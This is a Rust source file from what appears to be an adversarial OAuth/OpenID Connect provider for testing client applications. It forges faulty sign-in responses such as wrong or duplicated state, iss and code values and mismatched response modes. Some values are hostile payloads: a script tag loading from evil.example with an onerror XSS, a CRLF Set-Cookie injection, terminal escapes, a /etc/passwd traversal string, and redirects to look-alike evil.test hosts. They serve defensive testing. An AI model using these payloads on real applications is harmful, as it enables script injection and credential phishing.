//! Lies about how a sign-in ended: what the browser brings back to the application, and where it is sent.
//!
//! Source: RFC 6749 §4.1.2, RFC 9207 §2.4, RFC 9700 §4.4 and §4.5, OpenID Connect Core 1.0 §3.1.2.7.

use hosting::Kind;
use serde_json::json;

use super::forgery::{self, EVIL};
use crate::authorization_request::{AuthorizationRequest, ResponseMode};
use crate::authorization_response::{Answer, Foreign};
use crate::issuer::Issuer;
use crate::keys::Typ;
use crate::sessions::Session;

super::lies! {
    /// A lie about how a sign-in ended.
    AuthorizationResponseLie in "authorization-response" {
        /// The answer has no `state`.
        StateMissing = "state-missing",
        /// The `state` is not the one that was sent.
        StateWrong = "state-wrong",
        /// The `state` is empty.
        StateEmpty = "state-empty",
        /// The `state` is there twice: first the right one, then a wrong one.
        StateTwiceRightFirst = "state-twice-right-first",
        /// The `state` is there twice: first a wrong one, then the right one.
        StateTwiceWrongFirst = "state-twice-wrong-first",
        /// The answer has neither a code nor an error.
        CodeMissing = "code-missing",
        /// There are two codes: first the right one, then one that nobody has issued.
        CodeTwiceRightFirst = "code-twice-right-first",
        /// There are two codes: first one that nobody has issued, then the right one.
        CodeTwiceWrongFirst = "code-twice-wrong-first",
        /// The code is no code, but text that breaks quotes and lines.
        CodeGarbage = "code-garbage",
        /// The code is another user's.
        CodeOfAnotherUser = "code-of-another-user",
        /// The code is another client's.
        CodeOfAnotherClient = "code-of-another-client",
        /// The code is one that this provider has never issued, as a code of another issuer is.
        CodeOfAnotherIssuer = "code-of-another-issuer",
        /// The answer has no `iss`.
        IssMissing = "iss-missing",
        /// The `iss` is the attacker.
        IssWrong = "iss-wrong",
        /// The `iss` has a slash too many at its end.
        IssTrailingSlash = "iss-trailing-slash",
        /// The `iss` is the attacker, with a slash at its end.
        IssWrongTrailingSlash = "iss-wrong-trailing-slash",
        /// The `iss` is there twice: first the right one, then the attacker.
        IssTwiceRightFirst = "iss-twice-right-first",
        /// The `iss` is there twice: first the attacker, then the right one.
        IssTwiceWrongFirst = "iss-twice-wrong-first",
        /// An error stands beside the code.
        ErrorBesideCode = "error-beside-code",
        /// An error instead of the code, without a `state`.
        ErrorWithoutState = "error-without-state",
        /// An error whose description is a script.
        ErrorWithScript = "error-with-script",
        /// An error whose description breaks the line and adds a header.
        ErrorWithLineBreak = "error-with-line-break",
        /// An error whose description is 8 kB long.
        ErrorTooLong = "error-too-long",
        /// An error whose description clears a terminal and sets its title.
        ErrorWithTerminalEscapes = "error-with-terminal-escapes",
        /// An access token stands beside the code.
        AccessTokenBesideCode = "access-token-beside-code",
        /// An ID token stands beside the code.
        IdTokenBesideCode = "id-token-beside-code",
        /// The browser is sent to a host that begins like the application's.
        LookAlikeHost = "look-alike-host",
        /// The browser is sent to another host, with the application's as the user name in front.
        LookAlikeUserName = "look-alike-user-name",
        /// The browser is sent to the application over plain http.
        PlainHttp = "plain-http",
        /// The answer comes in the query, whatever was asked.
        InQuery = "in-query",
        /// The answer comes in the fragment, whatever was asked.
        InFragment = "in-fragment",
        /// The answer comes as a posted form, whatever was asked.
        InForm = "in-form",
    }
}

use AuthorizationResponseLie as Lie;

/// Changes the answer to a sign-in by this session as the lie says.
pub(crate) fn tell(issuer: &Issuer, lie: Lie, request: &AuthorizationRequest, session: &Session, answer: &mut Answer) {
    match lie {
        Lie::StateMissing
        | Lie::StateWrong
        | Lie::StateEmpty
        | Lie::StateTwiceRightFirst
        | Lie::StateTwiceWrongFirst => about_state(lie, answer),
        Lie::IssMissing
        | Lie::IssWrong
        | Lie::IssTrailingSlash
        | Lie::IssWrongTrailingSlash
        | Lie::IssTwiceRightFirst
        | Lie::IssTwiceWrongFirst => about_iss(issuer, lie, answer),
        Lie::ErrorBesideCode => answer.parameters.push(pair("error", "access_denied")),
        Lie::ErrorWithoutState => {
            fail(answer, "the user has said no");
            remove(answer, "state");
        }
        Lie::ErrorWithScript => {
            fail(answer, "<script src=https://evil.example/x.js></script><img src=x onerror=alert(1)>");
        }
        Lie::ErrorWithLineBreak => fail(answer, "no\r\nSet-Cookie: planted=1\r\n\r\n<h1>planted</h1>"),
        Lie::ErrorTooLong => fail(answer, &"no ".repeat(2_731)),
        Lie::ErrorWithTerminalEscapes => fail(answer, "\u{1b}[2J\u{1b}]0;planted\u{7}\u{9b}31mno\u{8}\u{8}"),
        Lie::AccessTokenBesideCode => {
            answer.parameters.push(("access_token".to_owned(), issuer.mint(Kind::AccessToken)));
            answer.parameters.push(pair("token_type", "Bearer"));
        }
        Lie::IdTokenBesideCode => answer.parameters.push(("id_token".to_owned(), id_token(issuer, request))),
        Lie::LookAlikeHost | Lie::LookAlikeUserName | Lie::PlainHttp => mislead(lie, answer),
        Lie::InQuery => answer.mode = ResponseMode::Query,
        Lie::InFragment => answer.mode = ResponseMode::Fragment,
        Lie::InForm => answer.mode = ResponseMode::FormPost,
        Lie::CodeMissing
        | Lie::CodeTwiceRightFirst
        | Lie::CodeTwiceWrongFirst
        | Lie::CodeGarbage
        | Lie::CodeOfAnotherUser
        | Lie::CodeOfAnotherClient
        | Lie::CodeOfAnotherIssuer => about_code(issuer, lie, request, session, answer),
    }
}

fn about_state(lie: Lie, answer: &mut Answer) {
    let wrong = hosting::random_token();
    match lie {
        Lie::StateMissing => remove(answer, "state"),
        Lie::StateEmpty => set(answer, "state", ""),
        Lie::StateTwiceRightFirst => answer.parameters.push(("state".to_owned(), wrong)),
        Lie::StateTwiceWrongFirst => answer.parameters.insert(0, ("state".to_owned(), wrong)),
        _ => set(answer, "state", &wrong),
    }
}

fn about_code(issuer: &Issuer, lie: Lie, request: &AuthorizationRequest, session: &Session, answer: &mut Answer) {
    let unknown = hosting::random_token();
    match lie {
        Lie::CodeTwiceRightFirst => answer.parameters.push(("code".to_owned(), unknown)),
        Lie::CodeTwiceWrongFirst => answer.parameters.insert(0, ("code".to_owned(), unknown)),
        Lie::CodeGarbage => set(answer, "code", "'\"><\r\n\0%00\u{202e}../../etc/passwd"),
        Lie::CodeOfAnotherUser => set(answer, "code", &issuer.foreign_code(request, session, Foreign::User)),
        Lie::CodeOfAnotherClient => set(answer, "code", &issuer.foreign_code(request, session, Foreign::Client)),
        Lie::CodeOfAnotherIssuer => set(answer, "code", &unknown),
        _ => remove(answer, "code"),
    }
}

fn about_iss(issuer: &Issuer, lie: Lie, answer: &mut Answer) {
    let own = issuer.config.issuer.as_str();
    match lie {
        Lie::IssMissing => remove(answer, "iss"),
        Lie::IssTrailingSlash => set(answer, "iss", &format!("{own}/")),
        Lie::IssWrongTrailingSlash => set(answer, "iss", &format!("{EVIL}/")),
        Lie::IssTwiceRightFirst => answer.parameters.push(pair("iss", EVIL)),
        Lie::IssTwiceWrongFirst => answer.parameters.insert(0, pair("iss", EVIL)),
        _ => set(answer, "iss", EVIL),
    }
}

/// Answers an error instead of the code.
fn fail(answer: &mut Answer, description: &str) {
    remove(answer, "code");
    set(answer, "error", "access_denied");
    set(answer, "error_description", description);
}

/// An ID token of nobody in particular: the lie is that it is here, where scripts, histories and logs see it.
fn id_token(issuer: &Issuer, request: &AuthorizationRequest) -> String {
    let now_s = issuer.now_s();
    let claims = json!({
        "iss": issuer.config.issuer,
        "sub": forgery::another_user(issuer, "").sub,
        "aud": &*request.client_id,
        "iat": now_s,
        "exp": now_s.saturating_add(300),
        "nonce": request.nonce,
    });
    let algorithm = issuer.registry.client(&request.client_id).map(|client| client.id_token_signed_response_alg);
    let token = issuer.keys.sign(algorithm.unwrap_or_default(), Typ::Id, &claims);
    issuer.handed.credentials.mint(Kind::IdToken, &token);
    token
}

/// Sends the browser to an address that only looks like the application's.
fn mislead(lie: Lie, answer: &mut Answer) {
    let Some((scheme, rest)) = answer.redirect_uri.split_once("://") else { return };
    let (authority, path) = rest.split_at(rest.find(['/', '?', '#']).unwrap_or(rest.len()));
    answer.redirect_uri = match lie {
        Lie::PlainHttp => format!("http://{authority}{path}"),
        Lie::LookAlikeUserName => format!("{scheme}://{authority}@evil.test{path}"),
        _ => {
            let (host, port) = authority.split_at(authority.find(':').unwrap_or(authority.len()));
            format!("{scheme}://{host}.evil.test{port}{path}")
        }
    };
}

fn pair(name: &str, value: &str) -> (String, String) {
    (name.to_owned(), value.to_owned())
}

fn remove(answer: &mut Answer, name: &str) {
    answer.parameters.retain(|(known, _)| known != name);
}

fn set(answer: &mut Answer, name: &str, value: &str) {
    remove(answer, name);
    answer.parameters.push(pair(name, value));
}
